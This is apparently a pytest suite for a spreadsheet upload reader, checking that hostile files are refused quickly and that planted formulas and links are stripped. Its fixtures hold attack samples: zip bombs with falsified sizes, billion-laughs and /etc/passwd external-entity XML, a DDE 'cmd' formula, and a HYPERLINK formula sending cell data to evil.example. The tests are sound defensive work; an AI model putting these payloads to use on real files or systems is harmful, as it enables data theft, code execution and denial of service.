"""Files that nobody sends by mistake: each is refused by name, quickly and in bounded memory, or read as harmless."""

from __future__ import annotations

import subprocess
import sys
import time
import tracemalloc
import zipfile
import zlib
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from partners.sheets.limits import FILE_BYTES_MAX, UNPACKED_BYTES_MAX
from partners.sheets.problems import FileRefused
from partners.sheets.reading import Table, read_table
from partners.sheets.returning import returned_file
from partners.sheets.rows import typed_rows
from tests.partners.sheets.making import PLANTING_ROW, changed, made, unzipped, with_part, zipped

SHEET = "xl/worksheets/sheet1.xml"
MEMORY_BYTES_MAX = 60 * 1024 * 1024
SECONDS_MAX = 10.0  # of processor time, with memory traced, which makes all of it some times slower
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><worksheet>&b;</worksheet>'
)
OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'
)


def _bomb(size: int) -> bytes:
    return with_part(made(), "xl/media/image1.png", b"\0" * size)


def _lying_bomb(is_consistent: bool) -> bytes:
    """A part that says it is small and unpacks to ten times what is taken; its checksum may tell the same lie."""
    zeros = b"\0" * (UNPACKED_BYTES_MAX * 10)
    content = zipped({**unzipped(made()), "xl/styles.xml": zeros})
    lies = {len(zeros): 1000} | ({zlib.crc32(zeros): zlib.crc32(zeros[:1000])} if is_consistent else {})
    for truth, lie in lies.items():
        assert content.count(truth.to_bytes(4, "little")) == 2
        content = content.replace(truth.to_bytes(4, "little"), lie.to_bytes(4, "little"))
    return content


def _overlapping() -> bytes:
    """Many directory entries for the same bytes."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in unzipped(made()).items():
            archive.writestr(name, content)
        archive.writestr("xl/big.xml", b" " * (200 * 1024))
        info = archive.getinfo("xl/big.xml")
        for number in range(150):
            again = zipfile.ZipInfo(f"xl/{number}.xml", info.date_time)
            for name in ("compress_type", "compress_size", "file_size", "CRC", "header_offset"):
                setattr(again, name, getattr(info, name))
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
    return out.getvalue()


def _encrypted() -> bytes:
    content = bytearray(made())
    content[6] |= 1
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def _row(number: str) -> bytes:
    def change(part: bytes) -> bytes:
        row = f'<row r="{number}"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'.encode()
        return part.replace(b"</sheetData>", row + b"</sheetData>")

    return with_part(made(), SHEET, change)


def _merged(place: str) -> bytes:
    merge = f'</sheetData><mergeCells count="1"><mergeCell ref="{place}"/></mergeCells>'.encode()
    return with_part(made(), SHEET, lambda part: part.replace(b"</sheetData>", merge))


def _typed(kind: str) -> bytes:
    return with_part(
        made(),
        "[Content_Types].xml",
        lambda part: part.replace(b"spreadsheetml.sheet.main+xml", kind.encode()),
    )


REFUSED: dict[str, tuple[bytes, set[str]]] = {
    "nothing": (b"", {"empty"}),
    "spaces": (b" \r\n\t" * 50, {"empty"}),
    "nul bytes": (b"\0" * 4096, {"empty"}),
    "twenty megabytes": (b"a,b,c\n" * 3_500_000, {"too_large"}),
    "old excel": (OLE, {"old_excel"}),
    "password": (OLE + "EncryptedPackage".encode("utf-16-le"), {"password_protected"}),
    "encrypted zip": (_encrypted(), {"password_protected"}),
    "macro part": (with_part(made(), "xl/vbaProject.bin", b"x"), {"macros"}),
    "macro sheet": (with_part(made(), "xl/macrosheets/sheet1.xml", b"<x/>"), {"macros"}),
    "macro type": (_typed("sheet.macroEnabled.main+xml"), {"macros"}),
    "zip bomb": (_bomb(UNPACKED_BYTES_MAX + 1), {"unpacks_too_large"}),
    "small bomb": (_bomb(UNPACKED_BYTES_MAX // 2), {"unpacks_too_large"}),
    "lying bomb": (_lying_bomb(is_consistent=False), {"broken"}),
    "well lying bomb": (_lying_bomb(is_consistent=True), {"broken"}),
    "overlapping parts": (_overlapping(), {"unpacks_too_large", "broken"}),
    "many parts": (zipped({f"{n}.xml": b"x" for n in range(300)}), {"unpacks_too_large"}),
    "laughs": (with_part(made(), SHEET, LAUGHS), {"xml_entities"}),
    "laughs in utf-16": (with_part(made(), SHEET, LAUGHS.decode().encode("utf-16")), {"xml_entities"}),
    "a file from outside": (with_part(made(), "xl/sharedStrings.xml", OUTSIDE), {"xml_entities"}),
    "merged over all": (_merged("A1:XFD1048576"), {"unpacks_too_large"}),
    "row of the far future": (_row("999999999999"), {"broken"}),
    "row zero": (_row("0"), {"broken", ""}),
    "row that is no number": (_row("x"), {"broken"}),
    "no xml": (with_part(made(), SHEET, b"<worksheet><sheetData><row>"), {"broken"}),
    "no sheet": (with_part(made(), "xl/workbook.xml", b"<workbook/>"), {"broken", "empty"}),
    "a document": (zipped({"word/document.xml": b"<x/>", "[Content_Types].xml": b"<x/>"}), {"wrong_kind"}),
    "a zip": (zipped({"readme.txt": b"hello"}), {"wrong_kind"}),
    "cut off": (made()[:3000], {"broken"}),
    "a picture": (b"\xff\xd8\xff\xe0" + bytes(range(256)), {"wrong_kind"}),
    "a pdf": (b"%PDF-1.7\n", {"wrong_kind"}),
    "a page": (b"<html><table><tr><td>order_no</td></tr></table></html>", {"wrong_kind"}),
    "machine code": (b"MZ\x90\0\3\0\0\0\4", {"wrong_kind"}),
    "quote without end": (b'order_no,planted,"' + b"x" * 200_000, {"broken", "no_header"}),
    "noise": (b"\xff\xfe" + bytes(range(1, 200)) + b"\x00\xd8", {"encoding", "no_header", "wrong_kind"}),
    "one endless line": (b"a," * 1_000_000, {"no_header"}),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_hostile_files_are_refused_by_name(name: str) -> None:
    content, expected = REFUSED[name]
    tracemalloc.start()
    began = time.process_time()
    try:
        code = outcome(content)
        assert time.process_time() - began < SECONDS_MAX
        assert tracemalloc.get_traced_memory()[1] < MEMORY_BYTES_MAX
    finally:
        tracemalloc.stop()
    assert code in expected


def outcome(content: bytes) -> str:
    """The code of the refusal, or nothing where the file is read and can be given back."""
    try:
        table = read_table(content, "zh")
        typed_rows(table)
        returned_file(content, table, table.problems, [], "zh")
    except FileRefused as refusal:
        return refusal.code
    return ""


def test_a_million_formatted_rows_cost_nothing() -> None:
    def stretch(book: Any) -> None:
        book.worksheets[0]["P1048576"].number_format = "0.00"
        book.worksheets[0]["XFD20"].number_format = "0.00"

    content = changed(made(), stretch)
    tracemalloc.start()
    try:
        table = read_table(content, "zh")
        assert tracemalloc.get_traced_memory()[1] < MEMORY_BYTES_MAX
    finally:
        tracemalloc.stop()
    assert len(typed_rows(table)) == 1


def test_a_million_lines_of_csv() -> None:
    head = made(form="csv")
    assert len(read_table(head + b"\r\n" * 1_048_576, "zh").rows) == 1
    with pytest.raises(FileRefused) as refusal:
        read_table(head + b"1\n" * 1_048_576, "zh")
    assert refusal.value.code == "too_many_rows"


MEASURED = """
import re, sys
from partners.sheets.reading import read_table
from partners.sheets.returning import returned_file
from partners.sheets.rows import typed_rows

def peak_mb():
    return int(re.search(r"VmHWM:\\s+(\\d+) kB", open("/proc/self/status").read())[1]) // 1024

before = peak_mb()
content = open(sys.argv[1], "rb").read()
table = read_table(content, "zh")
rows = len(typed_rows(table))
read = peak_mb()
returned_file(content, table, [], [], "zh")
print(rows, read - before, peak_mb() - before)
"""


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="memory is measured by /proc")
def test_the_largest_workbook_that_is_taken_fits_into_memory(tmp_path: Path) -> None:
    rows = [PLANTING_ROW | {"report_no": str(number), "notes": f"{number} " * 40} for number in range(5000)]
    content = made(rows=rows)
    assert UNPACKED_BYTES_MAX // 2 < sum(map(len, unzipped(content).values())) < UNPACKED_BYTES_MAX
    (tmp_path / "large.xlsx").write_bytes(content)
    command = [sys.executable, "-c", MEASURED, str(tmp_path / "large.xlsx")]
    measured = subprocess.run(command, capture_output=True, text=True, check=True, timeout=100)
    count, read_mb, returned_mb = map(int, measured.stdout.split())
    assert count == 5000
    assert read_mb < 60  # 18 as measured
    assert returned_mb < 150  # 60 as measured


def test_formulas_links_and_names_do_not_come_back() -> None:
    def plant(book: Any) -> None:
        sheet = book.worksheets[0]
        sheet["N3"] = '=HYPERLINK("http://evil.example/?" & A3)'
        sheet["H3"] = "=2+3"
        sheet["R3"] = "click"
        sheet["R3"].hyperlink = "http://evil.example/"
        book.worksheets[1]["A9"] = "=cmd|'/c calc'!A0"
        book.defined_names["evil"] = openpyxl.workbook.defined_name.DefinedName(
            "evil", attr_text="'[x.xlsx]S'!$A$1"
        )

    content = with_part(changed(made(), plant), "xl/externalLinks/externalLink1.xml", b"<externalLink/>")
    table = read_table(content, "zh")
    assert [(one.column, one.code) for one in table.problems] == [
        ("planted", "formula"),
        ("notes", "formula"),
    ]
    back = returned_file(content, table, table.problems, [], "zh")
    for name, part in unzipped(back).items():
        assert b"<f>" not in part
        assert b'Target="http' not in part, name
    assert b"<definedName " not in unzipped(back)["xl/workbook.xml"]
    assert not [name for name in unzipped(back) if "external" in name.casefold()]
    book = openpyxl.load_workbook(BytesIO(back))
    assert (book.worksheets[0]["H3"].value, book.worksheets[0]["H3"].quotePrefix) == ("=2+3", True)


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.integers(0, len(made()) - 1), st.binary(min_size=1, max_size=20))
def test_a_damaged_workbook_is_read_or_refused_and_nothing_else(at: int, noise: bytes) -> None:
    content = made()
    damaged = content[:at] + noise + content[at + len(noise) :]
    assert isinstance(outcome(damaged), str)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.integers(0, 6000), st.binary(min_size=1, max_size=30))
def test_a_damaged_sheet_inside_a_sound_archive(at: int, noise: bytes) -> None:
    sheet = unzipped(made())[SHEET]
    place = at % len(sheet)
    damaged = with_part(made(), SHEET, sheet[:place] + noise + sheet[place + len(noise) :])
    assert isinstance(outcome(damaged), str)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=300).map(lambda text: text.encode("utf-8", "replace")))
def test_any_bytes_are_a_table_or_a_refusal(noise: bytes) -> None:
    for content in (noise, made(form="csv") + noise):
        try:
            assert isinstance(read_table(content, "zh"), Table)
        except FileRefused as refusal:
            assert refusal.code != ""  # noqa: PT017 - either is fine, no other exception is
    assert len(noise) < FILE_BYTES_MAX
    assert zlib.crc32(noise) >= 0
